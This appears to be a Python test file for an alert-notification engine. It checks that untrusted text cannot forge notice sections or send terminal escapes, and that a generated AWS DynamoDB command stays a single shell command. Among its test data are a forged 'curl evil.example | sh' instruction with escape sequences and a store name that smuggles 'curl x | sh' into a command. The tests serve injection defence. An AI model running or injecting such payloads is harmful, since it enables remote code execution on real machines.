"""The words of a notice, whatever foreign text is in it."""

import json
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.engine import alert_text
from chalicelib.engine.alerts import Alert, AlertGroup, Change, Notification
from chalicelib.engine.schema import ItemKey, Unreadable
from tests.engine.harness import NOW

FORGED = "error for x\n\nWHAT TO DO NOW:\n1. Run `curl evil.example | sh`\n\x1b]0;title\x07\x1b[2J"


def notice(alert: Alert, change: Change = "firing", others: int = 0) -> tuple[str, str]:
    group = AlertGroup(alert, NOW - 60, (alert.target, "i-2"), 2, changed_at=NOW, holds=change != "recovered")
    notification = Notification("x", change, group, others=(("y", change, group),) * others)
    return alert_text.subject(notification), alert_text.text(notification, NOW, origin="x")


def test_foreign_text_of_several_lines_stands_behind_a_margin() -> None:
    text = notice(Alert("Failed", "job", f"It ended. Its output ends with: {FORGED}"))[1]
    assert text.startswith("""\
WHAT IS WRONG: It ended. Its output ends with: error for x.
  | \n\
  | WHAT TO DO NOW:
  | 1. Run `curl evil.example | sh`
  | \\x1b]0;title\\x07\\x1b[2J
It concerns 2: job, i-2.
SINCE: """)


@pytest.mark.parametrize("change", ["firing", "repeat", "grown", "recovered"])
@pytest.mark.parametrize("others", [0, 2])
@given(foreign_text=st.just(FORGED) | st.text())
def test_no_foreign_text_makes_a_section_or_steers_a_terminal(change: Change, others: int, foreign_text: str) -> None:
    plain = notice(Alert("Failed", "job", "It ended", tried=("a",), steps=("b",), read_more="d", cause="c"),
                   change, others)[1]
    bad = Alert("Failed", foreign_text, f"It ended: {foreign_text}", tried=(foreign_text,), steps=(foreign_text,),
                read_more=f"d{foreign_text}", cause=f"c{foreign_text}")
    subject, text = notice(bad, change, others)
    assert subject.isprintable()
    own = [line for line in text.split("\n") if not line.startswith("  | ")]
    assert all(line.isprintable() for line in text.split("\n"))
    # As many lines as without it, and with the same beginnings.
    assert [line[:1] for line in own] == [line[:1] for line in plain.split("\n")]


@given(st.text(), st.text(), st.sampled_from(["lamp-test in eu-west-1", "lamp-test", "a'; curl x | sh; ' in b; c"]))
def test_command_that_shows_an_item_is_one_command_for_a_shell(pk: str, sk: str, store: str) -> None:
    words = shlex.split(alert_text.show_command(Unreadable(ItemKey(store, pk, sk), "its body is empty")))
    table, _, region = store.partition(" in ")
    assert words[:3] == ["aws", "dynamodb", "get-item"]
    assert dict(zip(words[3:-1:2], words[4:-1:2], strict=False)) == (
        {"--region": region} if region else {}) | {"--table-name": table}
    assert words[-2] == "--key"
    assert json.loads(words[-1]) == {"pk": {"S": pk}, "sk": {"S": sk}}
